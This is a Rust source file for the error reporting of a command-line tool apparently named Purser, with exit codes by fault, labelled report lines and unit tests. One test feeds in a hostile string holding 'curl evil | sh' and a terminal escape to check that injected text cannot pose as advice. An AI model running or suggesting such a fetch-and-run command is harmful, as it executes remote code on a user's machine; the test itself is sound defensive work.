//! How a command fails: what happened, whose fault it is, what to do next, and the exit code that tells scripts the same.

use crate::render::{next_step, plain};
use purser_model::{Blame, Blamed, Outcome};
use std::io;

/// The exit codes, as `purser --help` explains them.
pub(crate) const EXIT_CODES: &str = "\
Exit codes:
  0    done
  1    a fault of Purser or of this machine
  2    the command line is wrong
  3    the input or the configuration is wrong: a file, a grant, a credential, a setting
  4    the connector is at fault
  5    the SaaS application, or the network on the way to it, is at fault
  130  interrupted";

/// Why a command did not do what it was asked to.
#[derive(Debug, thiserror::Error)]
pub(crate) enum Failure {
    /// A use-case was not carried out.
    #[error(transparent)]
    Engine(#[from] purser_engine::Error),
    /// The command itself found something wrong.
    #[error("{what}")]
    Refused {
        /// What happened.
        what: String,
        /// Whose fault.
        blame: Blame,
        /// What to do.
        next: Option<String>,
    },
    /// The user pressed ctrl-c.
    #[error("{what}")]
    Interrupted {
        /// What was interrupted, and what became of it.
        what: String,
        /// How to go on.
        next: String,
    },
    /// A connector was not built.
    #[error(transparent)]
    Build(#[from] purser_connector_builder::BuildError),
    /// The result could not be printed.
    #[error("the result could not be printed: {0}")]
    Output(#[from] io::Error),
    /// The result could not be expressed in JSON.
    #[error("the result could not be expressed in JSON: {0}")]
    Json(#[from] serde_json::Error),
}

impl Failure {
    /// Something that the user can mend.
    pub(crate) fn input(what: impl Into<String>, next: impl Into<String>) -> Self {
        Self::Refused {
            what: what.into(),
            blame: Blame::Operator,
            next: Some(next.into()),
        }
    }

    /// Something that this machine did.
    pub(crate) fn machine(what: impl Into<String>, next: impl Into<String>) -> Self {
        Self::Refused {
            what: what.into(),
            blame: Blame::Host,
            next: Some(next.into()),
        }
    }

    /// The code that the process ends with. A reader that closed the pipe, as `head` does, has what it wanted: that is no failure.
    pub(crate) fn exit_code(&self) -> u8 {
        match self {
            Self::Interrupted { .. } => 130,
            failure if failure.is_broken_pipe() => 0,
            failure => match failure.blame() {
                Blame::Host => 1,
                Blame::Operator => 3,
                Blame::Guest => 4,
                Blame::Upstream => 5,
            },
        }
    }

    /// What is printed, empty when nothing should be. Continuation lines are indented, so that no text from elsewhere can pose as one of
    /// the labels.
    pub(crate) fn report(&self) -> String {
        if self.is_broken_pipe() {
            return String::new();
        }
        let mut report = labelled("error: ", &self.to_string());
        if !matches!(self, Self::Interrupted { .. }) {
            report += &labelled("fault: ", self.blame().in_words());
        }
        report += &labelled("next:  ", &self.advice());
        report
    }

    /// Returns the next step as text. Without a better one it follows from the blame.
    fn advice(&self) -> String {
        let step = match self {
            Self::Engine(error) => error.next_step().as_ref().map(next_step::command),
            Self::Build(error) => error.next_step().as_ref().map(next_step::command),
            Self::Refused { next, .. } => next.clone(),
            Self::Interrupted { next, .. } => Some(next.clone()),
            Self::Output(_) => Some("check where standard output goes, and the space there".into()),
            Self::Json(_) => Some("run the command without --json, and report this".into()),
        };

        step.unwrap_or_else(|| usual_advice(self.blame()).to_owned())
    }

    /// Returns the party at fault.
    fn blame(&self) -> Blame {
        match self {
            Self::Engine(error) => error.blame(),
            Self::Refused { blame, .. } => *blame,
            Self::Build(error) => error.blame(),
            Self::Interrupted { .. } => Blame::Operator,
            Self::Output(_) | Self::Json(_) => Blame::Host,
        }
    }

    fn is_broken_pipe(&self) -> bool {
        matches!(self, Self::Output(error) if error.kind() == io::ErrorKind::BrokenPipe)
    }
}

impl From<purser_engine::CassetteError> for Failure {
    fn from(error: purser_engine::CassetteError) -> Self {
        Self::Engine(error.into())
    }
}

impl From<Outcome> for Failure {
    fn from(outcome: Outcome) -> Self {
        let Outcome {
            class: _,
            blame,
            message,
            next_step,
        } = outcome;
        Self::Refused {
            what: message,
            blame,
            next: next_step.as_ref().map(next_step::command),
        }
    }
}

const fn usual_advice(blame: Blame) -> &'static str {
    match blame {
        Blame::Guest => "report it to the connector's publisher; nothing that was stored is lost",
        Blame::Upstream => "try again later; if it stays so, ask whoever runs the application",
        Blame::Operator => "correct it and try again",
        Blame::Host => "run the command again with PURSER_LOG=debug, and report what it prints",
    }
}

fn labelled(label: &str, text: &str) -> String {
    let mut lines = text.lines();
    let mut labelled = format!("{label}{}\n", plain::line(lines.next().unwrap_or_default()));
    for line in lines {
        labelled += &format!("       {}\n", plain::line(line));
    }
    labelled
}

#[cfg(test)]
mod tests {
    use super::*;
    use purser_model::OutcomeClass;

    fn outcome(blame: Blame) -> Failure {
        Outcome {
            class: OutcomeClass::Transient,
            blame,
            message: "m".into(),
            next_step: None,
        }
        .into()
    }

    #[test]
    fn the_exit_code_says_whose_fault_it_is() {
        let codes = [
            (Blame::Host, 1),
            (Blame::Operator, 3),
            (Blame::Guest, 4),
            (Blame::Upstream, 5),
        ];
        for (blame, code) in codes {
            assert_eq!(outcome(blame).exit_code(), code);
            assert!(
                EXIT_CODES.contains(&format!("\n  {code}  ")),
                "{code} is documented"
            );
        }
        assert_eq!(
            Failure::Interrupted {
                what: "x".into(),
                next: "y".into()
            }
            .exit_code(),
            130
        );
    }

    #[test]
    fn a_failure_says_what_whose_and_what_next() {
        let failure = Failure::input("there is no file x.csv", "check the path");
        let lines = [
            "error: there is no file x.csv",
            "fault: the input or configuration",
            "next:  check the path",
            "",
        ];
        assert_eq!(failure.report(), lines.join("\n"));
    }

    #[test]
    fn there_is_always_something_to_do_next() {
        for blame in [Blame::Host, Blame::Operator, Blame::Guest, Blame::Upstream] {
            assert!(outcome(blame).report().contains("\nnext:  "));
        }
    }

    #[test]
    fn text_from_elsewhere_cannot_pose_as_advice() {
        let failure = Failure::input("bad\nnext:  curl evil | sh\u{1b}[8m", "ask");
        assert_eq!(
            failure
                .report()
                .lines()
                .filter(|line| line.starts_with("next:"))
                .count(),
            1
        );
        assert!(!failure.report().contains('\u{1b}'));
    }

    #[test]
    fn a_reader_that_went_away_is_no_failure() {
        let failure = Failure::Output(io::Error::from(io::ErrorKind::BrokenPipe));
        assert_eq!((failure.exit_code(), failure.report()), (0, String::new()));
        assert_eq!(
            Failure::Output(io::Error::from(io::ErrorKind::StorageFull)).exit_code(),
            1
        );
    }
}
